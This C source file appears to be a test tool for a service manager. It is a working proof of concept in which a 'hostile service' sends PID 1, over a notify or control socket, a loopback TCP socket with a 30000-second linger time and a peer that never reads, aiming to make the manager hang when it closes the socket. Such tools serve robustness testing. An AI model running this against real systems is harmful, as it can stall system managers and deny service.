/*
 * What a hostile service could do to PID 1: passes a TCP socket that lingers for hours to one of
 * its sockets, and closes its own copy, so that whoever closes the last one waits.
 *
 *   tool_linger notify|control PATH
 *
 * Prints "sent" or why the kernel refused, and stays, with the peer that never reads.
 */

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { LINGER_SECONDS = 30000, CHUNK = 65536 };

/* A connection to ourselves whose other end never reads, filled up. */
static int lingering_socket(void)
{
    static const char zeroes[CHUNK];
    struct linger linger = { .l_onoff = 1, .l_linger = LINGER_SECONDS };
    struct sockaddr_in address = { .sin_family = AF_INET,
                                   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t size = sizeof(address);
    int listener = socket(AF_INET, SOCK_STREAM, 0), fd = socket(AF_INET, SOCK_STREAM, 0);

    if (bind(listener, (struct sockaddr *)&address, size) < 0 || listen(listener, 1) < 0 ||
        getsockname(listener, (struct sockaddr *)&address, &size) < 0 ||
        connect(fd, (struct sockaddr *)&address, size) < 0 ||
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)) < 0 ||
        fcntl(fd, F_SETFL, O_NONBLOCK) < 0)
        return -1;
    while (write(fd, zeroes, sizeof(zeroes)) > 0)
        ;
    return fd;
}

static int send_descriptor(int channel, int fd)
{
    struct iovec part = { .iov_base = (char[]){ "STATUS=linger" }, .iov_len = 13 };
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)),
                              .cmsg_level = SOL_SOCKET,
                              .cmsg_type = SCM_RIGHTS } };
    struct msghdr packet = { .msg_iov = &part,
                             .msg_iovlen = 1,
                             .msg_control = &control,
                             .msg_controllen = sizeof(control) };

    memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
    return sendmsg(channel, &packet, MSG_NOSIGNAL) < 0 ? -errno : 0;
}

int main(int argc, char **argv)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int type = argc == 3 && strcmp(argv[1], "notify") == 0 ? SOCK_DGRAM : SOCK_SEQPACKET;
    int channel = socket(AF_UNIX, type, 0), fd = lingering_socket(), error;

    if (argc != 3 || fd < 0)
        return 2;
    strncpy(address.sun_path, argv[2], sizeof(address.sun_path) - 1);
    if (connect(channel, (struct sockaddr *)&address, sizeof(address)) < 0)
        return 2;
    error = send_descriptor(channel, fd);
    printf("linger: %s\n", error == 0 ? "sent" : strerror(-error));
    fflush(stdout);
    close(fd);
    pause();
    return 0;
}
